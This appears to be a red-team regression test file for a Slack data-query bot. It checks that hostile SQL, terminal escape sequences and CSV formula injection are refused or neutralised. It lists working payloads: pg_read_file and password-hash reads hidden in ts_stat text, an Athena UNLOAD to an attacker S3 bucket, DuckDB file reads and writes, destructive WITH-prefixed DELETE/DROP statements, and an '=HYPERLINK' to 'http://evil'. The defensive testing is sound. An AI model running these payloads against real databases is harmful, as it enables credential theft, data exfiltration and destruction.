"""Red team, third round: what the earlier rounds did not cover (issue 9).

Each probe is one an independent harness would try: SQL that reaches past the warehouse by a
path the name checks did not know, and what else the running app lets through. Every test here
failed before its fix; the probes that held are kept beside them.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import psycopg
import pytest

from bot.engines import base
from bot.engines.sql_engine import SQLEngine
from bot.errors import QueryFailed, UserFacingError
from bot.library.known_values import attach_known_values, refresh_known_values
from bot.library.loader import load_library
from bot.library.model import LibraryError
from bot.library.promote_guard import check_promotable

SECRET = "xoxb-redteam3-0123456789-secret"

# PostgreSQL runs SQL given as text in `ts_stat(sqlquery)` and `ts_rewrite(query, select)`:
# a name split by `||` inside that text is no name any check can read, and the inner query
# runs in the same read-only transaction, where `pg_read_file` still reads the server's files.
# Some views read the server's configuration files or show other sessions' SQL.
PAST_THE_WAREHOUSE_ON_POSTGRESQL = {
    "ts_stat_runs_text": (
        "SELECT (SELECT string_agg(word, ',') FROM ts_stat('SELECT to_tsvector(''simple'', "
        "pg_read_'||'file(''/etc/hostname''))')) AS words"
    ),
    "ts_rewrite_runs_text": (
        "SELECT ts_rewrite('x'::tsquery, 'SELECT ''x''::tsquery, plainto_tsquery(''simple'', "
        "pg_read_'||'file(''/etc/hostname''))') AS x"
    ),
    "qualified_ts_stat": "SELECT * FROM pg_catalog.ts_stat('SELECT to_tsvector(''a'')')",
    "file_settings": "SELECT sourcefile, name, setting FROM pg_file_settings",
    "show_all_file_settings": "SELECT * FROM pg_show_all_file_settings()",
    "hba_file_rules": "SELECT * FROM pg_catalog.pg_hba_file_rules",
    "ident_file_mappings": 'SELECT * FROM "pg_ident_file_mappings"',
    "other_sessions_sql": "SELECT query FROM pg_stat_activity",
    "password_hashes": "SELECT rolname, rolpassword FROM pg_authid",
    "shadow": "SELECT usename, passwd FROM pg_shadow",
    "server_build": "SELECT * FROM pg_config",
    "table_as_xml": "SELECT table_to_xml('pg_authid', true, true, '') AS x",
    "database_as_xml": "SELECT database_to_xml(true, true, '') AS x",
    "stats_reset": "SELECT pg_stat_reset() AS x",
    "notify": "SELECT pg_notify('channel', 'payload') AS x",
    "adminpack_logdir": "SELECT * FROM pg_logdir_ls()",
}


@pytest.mark.parametrize("name", sorted(PAST_THE_WAREHOUSE_ON_POSTGRESQL))
def test_sql_run_as_text_and_server_views_are_refused_by_name(name: str) -> None:
    assert base.server_access_problem(PAST_THE_WAREHOUSE_ON_POSTGRESQL[name]).startswith("found ")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT ts_total, stat_activity, config_name FROM t WHERE note <> 'pg_configured'",
        "SELECT to_tsvector('simple', body) @@ plainto_tsquery('simple', :q) AS hit FROM t",
    ],
)
def test_lookalike_columns_and_text_search_still_pass(sql: str) -> None:
    assert base.server_access_problem(sql) == ""


@pytest.fixture
def pg_engine(pg_url: str) -> Iterator[SQLEngine]:
    engine = SQLEngine("pg", pg_url, timeout_s=10)
    try:
        yield engine
    finally:
        engine.close()


def test_on_postgresql_no_probe_reads_the_servers_files_or_sessions(
    pg_engine: SQLEngine, pg_url: str
) -> None:
    """As the superuser the tests connect as: every probe refused before it is sent."""
    with open("/etc/hostname", encoding="utf-8") as handle:
        hostname = handle.read().strip()
    for sql in PAST_THE_WAREHOUSE_ON_POSTGRESQL.values():
        with pytest.raises(QueryFailed) as info:
            pg_engine.run(sql, {}, timeout_s=5, max_rows=50)
        assert "Only a single SELECT can run on pg" in info.value.reason, sql
        assert hostname not in info.value.reason.split("(found")[0]
    with psycopg.connect(pg_url.replace("+psycopg", ""), autocommit=True) as conn:
        conn.execute("CREATE TABLE docs AS SELECT 'red green' AS body")
    hit = pg_engine.run(
        "SELECT to_tsvector('simple', body) @@ plainto_tsquery('simple', :q) AS hit FROM docs",
        {"q": "green"},
        timeout_s=5,
        max_rows=1,
    )
    assert hit.rows == [(True,)]


def test_promotion_refuses_a_scalar_function_that_runs_sql_text() -> None:
    """`ts_rewrite` is a scalar: the promotion guard let it through as any other function."""
    with pytest.raises(UserFacingError, match="ts_rewrite"):
        check_promotable(PAST_THE_WAREHOUSE_ON_POSTGRESQL["ts_rewrite_runs_text"])


def _values_library(tmp_path: Path, values_sql: str) -> tuple[Path, Path, Path]:
    """A library whose `city` parameter reads its known values with `values_sql`."""
    library, warehouse, data = tmp_path / "lib", tmp_path / "wh.duckdb", tmp_path / "data"
    library.mkdir()
    header = {"title": "Stations of a city", "params": {"city": {"type": "string"}}}
    header["params"]["city"]["values"] = values_sql
    (library / "city_stations.sql").write_text(
        f"/*---\n{json.dumps(header)}\n---*/\nSELECT name FROM station WHERE city = :city\n",
        encoding="utf-8",
    )
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE TABLE station (name TEXT, city TEXT)")
        con.execute("INSERT INTO station VALUES ('A', 'Mountain View'), ('B', 'Oslo')")
    return library, warehouse, data


def _host_with_a_secret(tmp_path: Path) -> Path:
    host = tmp_path / "host"
    host.mkdir()
    (host / "secret.txt").write_text(f"SLACK_BOT_TOKEN={SECRET}\n", encoding="utf-8")
    return host


def known_values_probes(host: Path) -> dict[str, str]:
    return {
        "read_text": f"SELECT content FROM read_text('{host}/secret.txt')",
        "read_csv": f"SELECT * FROM read_csv('{host}/secret.txt', sep = '=', header = false)",
        "glob": f"SELECT file FROM glob('{host}/*')",
        "copy_to": f"COPY (SELECT city FROM station) TO '{host}/written.csv'",
        "second_statement": f"SELECT 1; COPY (SELECT city FROM station) TO '{host}/written.csv'",
        "attach": f"ATTACH '{host}/new.duckdb' AS other",
        "set": "SET enable_external_access = true",
        "install": "INSTALL httpfs",
    }


@pytest.mark.parametrize("name", sorted(known_values_probes(Path("/h"))))
def test_known_values_sql_of_a_library_file_runs_in_the_sandbox(tmp_path: Path, name: str) -> None:
    """`values:` SQL ran on a plain DuckDB connection at every `serve` start and scheduled
    refresh: a library file read the host's files into the known values, or wrote files."""
    host = _host_with_a_secret(tmp_path)
    library, warehouse, data = _values_library(tmp_path, known_values_probes(host)[name])
    try:
        loaded = load_library(library)
    except LibraryError as refused:  # not a query at all (ATTACH, SET, COPY…): refused at load
        assert "'values' must be a list, a query" in str(refused)
        assert sorted(p.name for p in host.iterdir()) == ["secret.txt"]
        return
    done = refresh_known_values(loaded, data, warehouse)
    assert done.values == 0 and len(done.problems) == 1
    assert SECRET not in done.problems[0] and "\n" not in done.problems[0]
    assert sorted(p.name for p in host.iterdir()) == ["secret.txt"]
    stored = attach_known_values(load_library(library), data, warehouse).value_keys
    assert not any(SECRET.lower() in key or "secret" in key for key in stored)


def test_known_values_sql_over_the_warehouse_still_reads_them(tmp_path: Path) -> None:
    library, warehouse, data = _values_library(
        tmp_path, "SELECT DISTINCT city FROM station ORDER BY 1"
    )
    done = refresh_known_values(load_library(library), data, warehouse)
    assert (done.values, done.problems) == (2, ())
    assert "oslo" in attach_known_values(load_library(library), data, warehouse).value_keys


def test_an_uploaded_file_is_redacted_like_a_message() -> None:
    """Messages were cleaned of secrets, files were not: a result CSV (*Download CSV*, a result
    too big for a table, a scheduled report's CSV) went to Slack with a token a warehouse cell
    held, since `files_upload_v2` sends its bytes to the upload URL outside `api_call`."""
    import asyncio

    from fake_slack import FakeSlack

    from bot.settings import Settings
    from bot.slack.client import make_client, make_sync_client

    leaked = "xoxb-1111111111-2222222222-leakedintoacell"
    csv = f"name,note\nalpha,{leaked}\nbeta,=1+1\n".encode()
    with FakeSlack() as fake:
        settings = Settings(slack_bot_token=fake.token, slack_api_url=fake.api_url)

        async def upload_async() -> None:
            client = make_client(settings)
            await client.files_upload_v2(
                channel="C0GENERAL1", filename="r.csv", content=csv, title=f"rows {leaked}"
            )

        asyncio.run(upload_async())
        make_sync_client(settings).files_upload_v2(
            channel="C0GENERAL1", filename="s.csv", content=csv.decode(), title="report"
        )
        uploads = list(fake.uploads.values())
    assert len(uploads) == 2
    for up in uploads:
        content = up["content"]
        assert content is not None and b"alpha," in content and b"beta,=1+1" in content
        assert leaked.encode() not in content and leaked not in str(up.get("title"))


def test_the_cli_prints_no_terminal_control_sequence_from_a_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A request is stored as sent; `tickets list/show` and `audit` printed it raw to the
    operator's terminal: an OSC 52 sequence sets their clipboard, `ESC[2J` clears the screen,
    U+202E reverses what follows. Output on stdout keeps the words, not the controls."""
    from bot.cli import main

    monkeypatch.chdir(tmp_path)
    for name in ("ROSTER_FILE", "SCHEDULES_FILE", "QUERY_LIBRARY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("TIMEZONE", "UTC")
    hostile = "churn \x1b]52;c;ZWNobyBwd25lZA==\x07by plan \x1b[2J\x1b[31mred \u202eeulav\x9b1m"
    assert main(["db", "upgrade"]) == 0
    assert main(["tickets", "create", hostile, "--as", "U0REQ00001"]) == 0
    capsys.readouterr()
    for args in (["tickets", "list"], ["tickets", "show", "1"], ["audit"], ["tickets", "demand"]):
        assert main(args) == 0, args
        out = capsys.readouterr().out
        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), (args, out)
        if args[-1] == "1":
            assert "churn" in out and "by plan" in out and "red" in out


RESTRICTED = """/*---
title: Salaries by person
examples:
  - salaries by person
params:
  region: {type: choice, choices: [north, south], default: north}
allowed_channels: [C0FINANCE1]
allowed_users: [U0CFO00001]
---*/
SELECT SUM(amount) AS total FROM orders WHERE :region IS NOT NULL
"""


@pytest.mark.parametrize("button", ["change_params", "open_params", "subscribe"])
def test_a_form_for_a_query_the_person_may_not_run_is_refused_in_one_line(
    tmp_path: Path, button: str
) -> None:
    """*Change parameters*, *Open form* and *Subscribe* opened their form for any query a click
    named: a person the query is not allowed to saw its title, its parameters and their
    choices, and was refused only on submitting. Now the click is refused in one line, as
    help hides the query and a request for it is refused; the allowed person gets the form."""
    import asyncio

    from slack_helpers import (
        FakeAck,
        block_actions_body,
        form,
        listener_context,
        offline_runtime,
    )

    from handlers import requests as hr
    from handlers import subscriptions as hs

    (tmp_path / "queries").mkdir()
    (tmp_path / "queries" / "salaries.sql").write_text(RESTRICTED, encoding="utf-8")
    rt = offline_runtime(tmp_path)
    listener = {
        "change_params": hr.on_change_params,
        "open_params": hr.on_open_params,
        "subscribe": hs.on_subscribe,
    }[button]
    value = json.dumps({"q": "salaries", "p": {"region": "north"}})

    def click(user: str, channel: str) -> None:
        action = {"action_id": button, "type": "button", "value": value}
        body = form(block_actions_body(action, user_id=user, channel_id=channel))

        async def run() -> None:
            await listener(ack=FakeAck(), body=body, context=listener_context(rt))
            await rt.worker.drain(timeout=20)

        asyncio.run(run())

    query = rt.services.library.get("salaries")
    assert query is not None, [q.name for q in rt.services.library]
    for user, channel in (("U0REQ00001", "C0FINANCE1"), ("U0CFO00001", "C0GENERAL1")):
        click(user, channel)
        assert rt.client.named("views_open") == [], (user, channel)
        told = [
            *rt.client.named("chat_postEphemeral"),
            *rt.client.named("chat_postMessage"),
        ]
        assert len(told) == 1 and (
            "limited to" in told[0]["text"] or "only be run in" in told[0]["text"]
        )
        assert "north" not in json.dumps(told) and "\n" not in told[0]["text"]
        rt.client.calls.clear()
    click("U0CFO00001", "C0FINANCE1")
    (opened,) = rt.client.named("views_open")
    assert "Salaries by person" in json.dumps(opened)


# A statement that starts with WITH and writes: PostgreSQL's read-only transaction and SQLite's
# `query_only` refuse it at the server, but on the dialects the engine opens no read-only
# transaction for (SQL Server, Snowflake, Trino, …) the first word was the only check.
WRITES_AFTER_WITH = {
    "delete": "WITH t AS (SELECT 1 AS id) DELETE FROM victims WHERE id IN (SELECT id FROM t)",
    "delete_in_cte": "WITH d AS (DELETE FROM victims RETURNING *) SELECT * FROM d",
    "insert": "WITH t AS (SELECT 1 AS id) INSERT INTO victims SELECT id FROM t",
    "update": "WITH t AS (SELECT 1) UPDATE victims SET id = 0",
    "merge": "WITH x AS (SELECT 1 AS id) MERGE INTO victims v USING x ON v.id = x.id "
    "WHEN MATCHED THEN DELETE",
    "truncate_after_comment": "WITH x AS (SELECT 1) /* read */ SELECT 1 FROM x; TRUNCATE victims",
    "create": "WITH x AS (SELECT 1 AS id) CREATE TABLE stolen AS SELECT * FROM x",
    "drop": "WITH x AS (SELECT 1) DROP TABLE victims",
    "lower_case": "with t as (select 1) delete from victims",
}


@pytest.mark.parametrize("name", sorted(WRITES_AFTER_WITH))
def test_a_statement_that_writes_after_a_with_is_refused_before_it_is_sent(name: str) -> None:
    assert base.read_only_problem(WRITES_AFTER_WITH[name]).startswith("found ")


@pytest.mark.parametrize(
    "sql",
    [
        "WITH t AS (SELECT created_at, last_update, 'delete me' AS note FROM x) SELECT * FROM t",
        'SELECT "update", "delete" FROM audit_log WHERE action <> \'DROP TABLE\'',
        "SELECT updated_by, deleted_at, insert_ts, merge_key FROM t -- update later",
    ],
)
def test_reads_that_name_those_words_only_in_text_or_identifiers_still_pass(sql: str) -> None:
    assert base.read_only_problem(sql) == ""


def test_on_postgresql_a_write_after_with_is_refused_before_the_server(
    pg_engine: SQLEngine, pg_url: str
) -> None:
    with psycopg.connect(pg_url.replace("+psycopg", ""), autocommit=True) as conn:
        conn.execute("CREATE TABLE victims AS SELECT generate_series(1, 3) AS id")
    for sql in WRITES_AFTER_WITH.values():
        with pytest.raises(QueryFailed) as info:
            pg_engine.run(sql, {}, timeout_s=5, max_rows=5)
        assert "Only a single SELECT can run on pg" in info.value.reason, sql
    rows = pg_engine.run("SELECT count(*) FROM victims", {}, timeout_s=5, max_rows=1).rows
    assert rows == [(3,)]


class _RecordingAthena:
    """boto3's athena client as far as a refused query gets: any call is recorded."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def __getattr__(self, name: str) -> Any:
        def call(**_kwargs: Any) -> dict[str, Any]:
            self.calls.append(name)
            return {"QueryExecutionId": "q-1", "QueryExecution": {"Status": {"State": "FAILED"}}}

        return call


ATHENA_WRITES = {
    "unload_to_any_bucket": "UNLOAD (SELECT * FROM customers) TO 's3://attacker-bucket/x/' "
    "WITH (format = 'TEXTFILE')",
    "ctas": "CREATE TABLE stolen WITH (external_location = 's3://attacker-bucket/t/') AS "
    "SELECT * FROM customers",
    "insert": "INSERT INTO customers SELECT * FROM customers",
    "drop": "DROP TABLE customers",
    "msck": "MSCK REPAIR TABLE customers",
    "second_statement": "SELECT 1; DROP TABLE customers",
    "write_after_with": "WITH t AS (SELECT 1) INSERT INTO customers SELECT * FROM t",
}


@pytest.mark.parametrize("name", sorted(ATHENA_WRITES))
def test_athena_runs_only_a_reading_statement(name: str) -> None:
    """The Athena engine sent any statement to Athena: a library query could `UNLOAD` the
    warehouse to any S3 bucket the bot's role may write, `CREATE TABLE AS`, `DROP`. It is now
    refused in one line before any call, as on the SQL engine."""
    from bot.engines.athena import AthenaEngine

    client = _RecordingAthena()
    engine = AthenaEngine(client, database="shop", sleep=lambda _s: None)
    with pytest.raises(QueryFailed) as info:
        engine.run(ATHENA_WRITES[name], {}, timeout_s=5, max_rows=5)
    assert "Only a single SELECT can run on athena" in info.value.reason
    with pytest.raises(QueryFailed):
        engine.explain(ATHENA_WRITES[name], {})
    assert client.calls == []


TOP_N = """/*---
title: Biggest orders
examples:
  - biggest orders
params:
  n: {type: int, default: 5}
  at_least: {type: number, default: 0}
---*/
SELECT * FROM orders WHERE amount >= coalesce(:at_least, 0) LIMIT :n
"""


@pytest.mark.parametrize("value", ["1e999", "-1e999", "inf", "nan", "1e400"])
@pytest.mark.parametrize("param", ["n", "at_least"])
def test_a_number_too_big_for_a_float_is_a_one_line_refusal_in_the_form(
    tmp_path: Path, value: str, param: str
) -> None:
    """`1e999` in a number field of the parameters form raised OverflowError out of the
    listener (a traceback in the log, Slack's generic error to the person); `nan`/`inf` in a
    decimal field ran the query with NaN. Each is now the field's one-line error."""
    import asyncio

    from slack_helpers import FakeAck, form, listener_context, offline_runtime, view_submission_body

    from handlers import form_seal
    from handlers import requests as hr

    (tmp_path / "queries").mkdir()
    (tmp_path / "queries" / "biggest_orders.sql").write_text(TOP_N, encoding="utf-8")
    rt = offline_runtime(tmp_path)
    meta = form_seal.sealed(
        rt, {"q": "biggest_orders", "c": "C0GENERAL1", "p": {}}, user="U0REQ00001"
    )
    state = {f"p:{param}": {"value": {"type": "number_input", "value": value}}}
    view = {"callback_id": "params_modal", "private_metadata": json.dumps(meta)}
    body = form(view_submission_body(view, state))
    ack = FakeAck()

    async def submit() -> None:
        await hr.on_params_submit(ack=ack, body=body, context=listener_context(rt))
        await rt.worker.drain(timeout=20)

    asyncio.run(submit())
    (acked,) = ack.calls
    assert acked.get("response_action") == "errors", acked
    (error,) = acked["errors"].values()
    assert "must be" in error and "\n" not in error
    assert rt.client.named("chat_postMessage") == []


HUGE = "9" * 400  # read as a float it is infinity


@pytest.mark.parametrize(
    "text",
    [
        f"look up order {HUGE}",
        f"order details for order id {HUGE}",
        f"revenue by region top {HUGE}",
        f"salaries above {HUGE}",
        "order 1e999 details",
    ],
)
def test_a_number_too_big_for_a_float_in_a_request_is_no_crash(
    tmp_path: Path, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    """A 400-digit number in a request reached `int(inf)` in the parameter readers: an
    OverflowError, a traceback in the log and "something went wrong" for the person."""
    import logging

    from slack_helpers import offline_runtime

    from bot.errors import GENERIC_FAILURE

    rt = offline_runtime(tmp_path)
    context = rt.services.context(user="U0REQ00001", where="C0GENERAL1", source="slash")
    with caplog.at_level(logging.ERROR):
        outcome = rt.services.answer(text, context)
    assert not [r for r in caplog.records if r.exc_info], text
    assert getattr(outcome, "reason", "") != GENERIC_FAILURE


def test_the_csv_of_ask_never_starts_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`datarequest ask --format csv` wrote warehouse cells raw (its own writer, not the one
    every other export shares): `=HYPERLINK(…)` in a cell ran when the file was opened."""
    import csv
    import io

    from bot.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    library, warehouse = tmp_path / "lib", tmp_path / "wh.duckdb"
    library.mkdir()
    (library / "notes.sql").write_text(
        "/*---\ntitle: Every note\nexamples:\n  - every note\n---*/\n"
        "SELECT body, n FROM notes ORDER BY n\n",
        encoding="utf-8",
    )
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE TABLE notes (body TEXT, n INTEGER)")
        con.execute(
            "INSERT INTO notes VALUES ('=HYPERLINK(\"http://evil\",\"x\")', -1), ('+1+1', 2),"
            " ('@SUM(A1)', 3), ('-2-2', 4), ('plain', 5)"
        )
    assert main(["db", "upgrade"]) == 0
    capsys.readouterr()
    code = main(
        [
            "ask",
            "notes",
            "--format",
            "csv",
            "--warehouse",
            str(warehouse),
            "--library",
            str(library),
        ]
    )
    out = capsys.readouterr().out
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(out)))
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil","x")',
        "'+1+1",
        "'@SUM(A1)",
        "'-2-2",
        "plain",
    ]
    assert [r[1] for r in rows[1:]] == ["-1", "2", "3", "4", "5"]  # numbers stay numbers
